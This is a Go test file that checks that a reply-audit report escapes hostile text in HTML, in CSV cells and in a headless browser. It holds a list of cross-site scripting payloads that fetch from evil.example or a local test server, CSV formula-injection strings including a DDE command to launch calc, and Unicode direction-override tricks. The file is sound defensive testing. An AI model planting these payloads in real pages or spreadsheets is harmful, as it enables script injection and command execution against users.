package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"html/template"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"replyaudit/internal/analysis"
	"replyaudit/internal/analysis/analysistest"
	"replyaudit/internal/audit"
	"replyaudit/internal/mask"
)

// poisons are texts that would run, load, restyle, turn or stretch something;
// they send whoever reads them to the server.
func poisons(server string) []string {
	return []string{
		"<script>fetch('" + server + "/script');document.title='ran'</script>",
		"<img src=" + server + "/img onerror=\"document.title='ran'\">",
		"</title></style></textarea></svg><svg onload=\"document.title='ran'\"><image href='" + server + "/svg'/>",
		"</style><style>@import url(" + server + "/css);*{width:9000px!important}</style>",
		"\"><link rel=stylesheet href=" + server + "/link><iframe src=" + server + "/frame></iframe>",
		"<meta http-equiv=refresh content=\"0;url=" + server + "/refresh\"><base href=" + server + "/>",
		"';alert(1)//{{.Campaign}}${7*7}%s%!d",
		"javascript:document.title='ran'", "expression(alert(1));background:url(" + server + "/bg)",
		"\u202Eturned\u202D \u2066\u2067x \u061C\u200F", "a" + strings.Repeat("\u0301\u0489", 500), strings.Repeat("\u200b\u200d\ufeff", 300),
		strings.Repeat("W", 900), "=HYPERLINK(\"" + server + "/formula\")", "+cmd|' /C calc'!A0", "\t=1+1", "\u200b=1+1", "＝1+1", "@SUM(A1)", "-2+3",
		"\x00\x1b[31m\xff\xfe broken", "<!--", "]]>", "\ufffe\U000e0041",
	}
}

// poisoned is the specimen with such texts wherever a stranger can write. One
// reply has ten million characters.
func poisoned(server string) *analysis.Data {
	d := analysistest.Market(6)
	bad := poisons(server)
	n := 0
	next := func() string { n++; return bad[n%len(bad)] }
	d.Campaign.Title = "Printers " + bad[0] + bad[3] + bad[9] + bad[12]
	for i := range d.Campaign.Companies {
		c := &d.Campaign.Companies[i]
		c.Name += " " + next()
		c.Fields = map[string]string{"trade": bad[i%5], "size": next()}
	}
	d.Campaign.Personas[0].Last = next() + bad[1]
	for i := range d.Campaign.Scripts {
		for language, texts := range d.Campaign.Scripts[i].Opening {
			texts[0].Subject, texts[0].Body = next(), next()+bad[0]+bad[1]+bad[12]
			d.Campaign.Scripts[i].Opening[language] = texts
		}
	}
	long := false
	for i := range d.Records {
		r := &d.Records[i]
		r.Letter.Subject, r.Letter.Text = next(), next()
		for j := range r.Messages {
			m := &r.Messages[j]
			m.Subject, m.FromName, m.From = next(), next(), next()
			m.Decision.Parts.Visible += "\n" + next() + "\n" + next() + bad[0]
			if m.Decision.Verdict.Class == audit.Human && !long {
				long = true
				m.Decision.Parts.Visible += strings.Repeat("Lorem <b>ipsum</b> &amp; ", 10_000_000/24)
			}
		}
	}
	return d
}

func TestHostileTextIsTextInEveryFormat(t *testing.T) {
	m := analysis.Analyse(poisoned("http://evil.example"))
	page := render(t, m)
	if n := len(page); n > 12_000_000 {
		t.Errorf("a reply of ten million characters makes a page of %d", n)
	}
	for _, raw := range []string{"<script", "<img", "<iframe", "<link", "<base", "onerror=\"", "onload=\"", "<style>@", "<meta http-equiv=refresh", "\u202E", "\u2066", "\x00", "\x1b", "<!--"} {
		if i := strings.Index(page, raw); i >= 0 {
			t.Errorf("%q reached the page: …%q…", raw, page[max(0, i-80):i+80])
		}
	}
	if !strings.Contains(page, "more characters left out") {
		t.Error("the page does not say that a reply was cut")
	}
	dir := t.TempDir()
	if err := CSV(dir, m); err != nil {
		t.Fatal(err)
	}
	for _, name := range csvNames() {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if bare := strings.TrimLeft(cell, " \t\u200b\u200d\ufeff"); bare != "" && strings.ContainsAny(bare[:1], "=@+") || strings.HasPrefix(bare, "＝") {
					t.Errorf("%s: a cell begins a formula: %.60q", name, cell)
				}
			}
		}
	}
}

func TestNamesFromOutside(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"UAB Klevas", "UAB Klevas"},
		{" a\n\tb ", "a b"},
		{"a\u202Eb", "ab"},
		{"Žalias\u0300", "Žalias\u0300"},
		{"e" + strings.Repeat("\u0301", 9), "e" + strings.Repeat("\u0301", 4)},
		{strings.Repeat("x", 29), strings.Repeat("x", 28) + "\u200bx"},
	} {
		if got := mask.Name(c.in); got != c.want {
			t.Errorf("%q: %q, want %q", c.in, got, c.want)
		}
	}
	if n := len([]rune(strings.ReplaceAll(mask.Name(strings.Repeat("y", 9999)), "\u200b", ""))); n != 201 {
		t.Errorf("a name of 9999 letters has %d", n)
	}
}

// harness measures pages in frames: the widths of their contents, their titles
// and whether any of their scripts ran.
var harness = template.Must(template.New("").Parse(`<!DOCTYPE html><body><pre id="out"></pre>
{{range .}}<iframe src="{{.Page}}" title="{{.Name}}" style="width:{{.Width}}px;height:900px;border:0"></iframe>{{end}}
<script>addEventListener('load',()=>{let s='';for(const f of document.querySelectorAll('iframe')){const d=f.contentDocument;
s+='['+f.title+' '+f.clientWidth+' '+d.documentElement.scrollWidth+' '+(d.title=='ran'?'ran':'still')+' '+d.querySelectorAll('script,iframe,object,form').length+']'}
document.getElementById('out').textContent=s})</script>`))

type frame struct {
	Page, Name string
	Width      int
}

// In a real browser nothing of all this runs, no request goes out, and the page
// is no wider than with friendly words. The same texts unescaped do both, which
// shows that the test would see it.
func TestHostileTextInABrowser(t *testing.T) {
	browser, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("chromium is not installed: apt-get install chromium fonts-liberation poppler-utils")
	}
	var requests atomic.Int64
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { requests.Add(1) }))
	defer server.Close()
	dir := t.TempDir()
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	measure := func(frames ...frame) map[string][]string {
		var page bytes.Buffer
		if err := harness.Execute(&page, frames); err != nil {
			t.Fatal(err)
		}
		write("harness.html", page.String())
		cmd := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
			"--disable-component-update", "--disable-sync", "--hide-scrollbars", "--allow-file-access-from-files", "--user-data-dir="+t.TempDir(), "--window-size=1400,1000",
			"--timeout=60000", "--dump-dom", "file://"+filepath.Join(dir, "harness.html"))
		cmd.WaitDelay = 10 * time.Second
		out, err := cmd.Output()
		if err != nil {
			t.Fatal(err)
		}
		found := map[string][]string{}
		for _, m := range regexp.MustCompile(`\[(\w+) (\d+) (\d+) (\w+) (\d+)\]`).FindAllStringSubmatch(string(out), -1) {
			found[m[1]+m[2]] = m[3:]
		}
		return found
	}
	write("friendly.html", render(t, sixLetters()))
	write("hostile.html", render(t, analysis.Analyse(poisoned(server.URL))))
	found := measure(frame{"friendly.html", "friendly", 1280}, frame{"friendly.html", "friendly", 390}, frame{"hostile.html", "hostile", 1280}, frame{"hostile.html", "hostile", 390})
	for _, width := range []string{"1280", "390"} {
		friendly, hostile := found["friendly"+width], found["hostile"+width]
		if friendly == nil || hostile == nil {
			t.Fatalf("the browser measured %v", found)
		}
		if friendly[0] != width || hostile[0] != width {
			t.Errorf("on %s points the page is %s wide, with hostile words %s", width, friendly[0], hostile[0])
		}
		if hostile[1] != "still" || hostile[2] != "0" {
			t.Errorf("on %s points something ran or was built: %v", width, hostile)
		}
	}
	if n := requests.Load(); n != 0 {
		t.Errorf("%d requests went out", n)
	}
	write("raw.html", "<!DOCTYPE html><title>raw</title>"+strings.Join(poisons(server.URL)[:2], "\n"))
	if raw := measure(frame{"raw.html", "raw", 390})["raw390"]; fmt.Sprint(raw[1]) != "ran" || requests.Load() == 0 {
		t.Errorf("the unescaped texts did nothing (%v, %d requests): this test cannot fail", raw, requests.Load())
	}
}
